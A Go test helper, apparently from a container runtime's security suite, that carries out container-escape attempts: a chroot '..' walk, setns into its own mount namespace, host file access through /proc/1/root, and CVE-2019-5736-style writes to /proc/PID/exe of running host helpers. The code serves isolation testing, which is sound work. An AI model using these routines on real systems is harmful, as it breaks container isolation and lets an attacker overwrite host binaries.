package main

import (
	"fmt"
	"os"
	"runtime"
	"strings"
	"syscall"
	"time"
)

// attack runs one escape attempt and prints what it reached, one
// "key=value" per line; the test judges the result on the host.
func attack(mode string, args []string) int {
	switch mode {
	case "chroot-escape":
		// The classic: chroot into a subdirectory, walk ".." past the old
		// root (a chroot does not move the cwd), chroot to where we landed.
		// A process whose root is a chroot in the host's mount namespace
		// reaches the host this way; one that is in the container's mount
		// namespace stays in the container.
		if err := os.MkdirAll("/tmp/jail", 0o755); err != nil {
			fmt.Printf("mkdir=%v\n", err)
		}
		report("chroot-jail", syscall.Chroot("/tmp/jail"))
		for range 64 {
			syscall.Chdir("..")
		}
		report("chroot-dot", syscall.Chroot("."))
		return tryHost(args)
	case "setns-self":
		// With CAP_SYS_ADMIN: joining one's own mount namespace resets the
		// root to that namespace's root; for a process left in the host's
		// namespace, that is the host's "/". A thread must not share its
		// filesystem information to join a mount namespace.
		runtime.LockOSThread()
		report("unshare-fs", syscall.Unshare(syscall.CLONE_FS))
		fd, err := syscall.Open("/proc/self/ns/mnt", syscall.O_RDONLY|syscall.O_CLOEXEC, 0)
		if err != nil {
			fmt.Printf("open-ns=%v\n", err)
		} else {
			_, _, e := syscall.RawSyscall(308 /* setns */, uintptr(fd), syscall.CLONE_NEWNS, 0)
			fmt.Printf("setns=%s\n", errno(0, 0, e))
		}
		return tryHost(args)
	case "pause-reach":
		// With shareProcessNamespace and SYS_PTRACE, PID 1 is the pause:
		// its root, working directory, executable and descriptors are
		// open to us through /proc/1.
		return pauseReach(args)
	case "exe-watch":
		return exeWatch(args)
	case "hold-memory":
		// Touch N MiB and keep them: a steady memory user for cgroup
		// limit tests (a shell's buffers grow in unknown steps).
		var mib int
		if len(args) != 1 {
			fmt.Println("want: <MiB>")
			return 2
		}
		fmt.Sscan(args[0], &mib)
		buf := make([]byte, mib<<20)
		for i := 0; i < len(buf); i += 4096 {
			buf[i] = 1
		}
		fmt.Printf("held=%d\n", mib)
		for {
			time.Sleep(time.Hour)
			runtime.KeepAlive(buf)
		}
	case "cwd":
		// Where the working directory the runtime gave us is.
		wd, err := os.Getwd()
		fmt.Printf("getwd=%s%s\n", wd, errOrNil(err))
		var st syscall.Statfs_t
		syscall.Statfs(".", &st)
		fmt.Printf("cwd-fstype=%#x\n", st.Type)
		return 0
	}
	fmt.Printf("unknown attack %q\n", mode)
	return 2
}

func pauseReach(args []string) int {
	if len(args) != 2 {
		fmt.Println("want: <host file to read> <host file to create>")
		return 2
	}
	for _, via := range []string{"root", "cwd"} {
		if b, err := os.ReadFile("/proc/1/" + via + args[0]); err != nil {
			fmt.Printf("read-via-%s=%v\n", via, err)
		} else {
			fmt.Printf("read-via-%s=ok %s\n", via, strings.TrimSpace(string(b)))
		}
		if err := os.WriteFile("/proc/1/"+via+args[1], []byte("written from a container\n"), 0o644); err != nil {
			fmt.Printf("write-via-%s=%v\n", via, err)
		} else {
			fmt.Printf("write-via-%s=ok\n", via)
		}
	}
	var names []string
	if ents, err := os.ReadDir("/proc/1/root"); err == nil {
		for _, e := range ents {
			names = append(names, e.Name())
		}
	} else {
		fmt.Printf("list-root=%v\n", err)
	}
	fmt.Printf("pause-root=%s\n", strings.Join(names, ","))
	var fds []string
	if ents, err := os.ReadDir("/proc/1/fd"); err == nil {
		for _, e := range ents {
			l, _ := os.Readlink("/proc/1/fd/" + e.Name())
			fds = append(fds, e.Name()+">"+l)
		}
	} else {
		fmt.Printf("list-fd=%v\n", err)
	}
	fmt.Printf("pause-fds=%s\n", strings.Join(fds, ","))
	reportExe(1, "pause")
	return 0
}

// reportExe prints the identity of /proc/PID/exe and tries to write it,
// as CVE-2019-5736 does.
func reportExe(pid int, key string) {
	p := fmt.Sprintf("/proc/%d/exe", pid)
	link, _ := os.Readlink(p)
	var st syscall.Stat_t
	if err := syscall.Stat(p, &st); err != nil {
		fmt.Printf("%s-exe=%s stat=%v\n", key, link, err)
		return
	}
	werr := tryWrite(p)
	fmt.Printf("%s-exe=%s dev=%d ino=%d write=%s\n", key, link, st.Dev, st.Ino, werr)
}

// tryWrite opens path for writing and appends one byte; it reports "ok"
// or the error.
func tryWrite(path string) string {
	fd, err := syscall.Open(path, syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
	if err != nil {
		return "open: " + err.Error()
	}
	defer syscall.Close(fd)
	var st syscall.Stat_t
	syscall.Fstat(fd, &st)
	if _, err := syscall.Pwrite(fd, []byte{0}, st.Size); err != nil {
		return "write: " + err.Error()
	}
	return "ok"
}

// exeWatch watches the PID namespace (shared with the pod) for processes
// running an executable that is not a file of this container (a host
// binary, a helper's memfd), keeps a handle on each and tries to write it
// while it runs and again after it exited, until /tmp/stop-watch appears
// or args[0] seconds pass. One "seen" line per such process.
func exeWatch(args []string) int {
	secs := 60
	if len(args) > 0 {
		fmt.Sscan(args[0], &secs)
	}
	fmt.Println("watching")
	self := os.Getpid()
	type held struct {
		pid, fd int
		line    string
	}
	var hs []held
	seen := map[int]bool{}
	for deadline := time.Now().Add(time.Duration(secs) * time.Second); time.Now().Before(deadline); {
		if _, err := os.Stat("/tmp/stop-watch"); err == nil {
			break
		}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			var pid int
			if _, err := fmt.Sscan(e.Name(), &pid); err != nil || pid == self || seen[pid] {
				continue
			}
			p := fmt.Sprintf("/proc/%d/exe", pid)
			fd, err := syscall.Open(p, oPath|syscall.O_CLOEXEC, 0)
			if err != nil {
				continue // not ours to open yet (a helper before it execs): look again
			}
			link, _ := os.Readlink(p)
			if _, err := os.Stat(link); err == nil && !strings.HasPrefix(link, "/memfd:") {
				syscall.Close(fd) // a file of this container
				seen[pid] = true
				continue
			}
			seen[pid] = true
			var st syscall.Stat_t
			syscall.Fstat(fd, &st)
			hs = append(hs, held{pid, fd, fmt.Sprintf("seen pid=%d exe=%q dev=%d ino=%d write-running=%s", pid, link, st.Dev, st.Ino, tryWrite(p))})
		}
		time.Sleep(200 * time.Microsecond)
	}
	for _, h := range hs {
		// The process may be gone: reopen what it ran through our handle.
		fmt.Printf("%s write-after=%s\n", h.line, tryWrite(fmt.Sprintf("/proc/self/fd/%d", h.fd)))
	}
	fmt.Println("watch done")
	return 0
}

// tryHost reads args[0] and creates args[1], absolute host paths the test
// made, and lists the root the process ended up in.
func tryHost(args []string) int {
	if len(args) != 2 {
		fmt.Println("want: <host file to read> <host file to create>")
		return 2
	}
	if b, err := os.ReadFile(args[0]); err != nil {
		fmt.Printf("read=%v\n", err)
	} else {
		fmt.Printf("read=ok %s\n", strings.TrimSpace(string(b)))
	}
	if err := os.WriteFile(args[1], []byte("written from a container\n"), 0o644); err != nil {
		fmt.Printf("write=%v\n", err)
	} else {
		fmt.Println("write=ok")
	}
	var names []string
	if ents, err := os.ReadDir("/"); err == nil {
		for _, e := range ents {
			names = append(names, e.Name())
		}
	}
	fmt.Printf("root=%s\n", strings.Join(names, ","))
	mnt, err := os.Readlink("/proc/self/ns/mnt")
	fmt.Printf("mntns=%s%v\n", mnt, errOrNil(err))
	return 0
}

// oPath is O_PATH, which package syscall does not name.
const oPath = 0x200000

func errOrNil(err error) string {
	if err == nil {
		return ""
	}
	return " " + err.Error()
}

func report(key string, err error) {
	if err != nil {
		fmt.Printf("%s=%v\n", key, err)
		return
	}
	fmt.Printf("%s=ok\n", key)
}
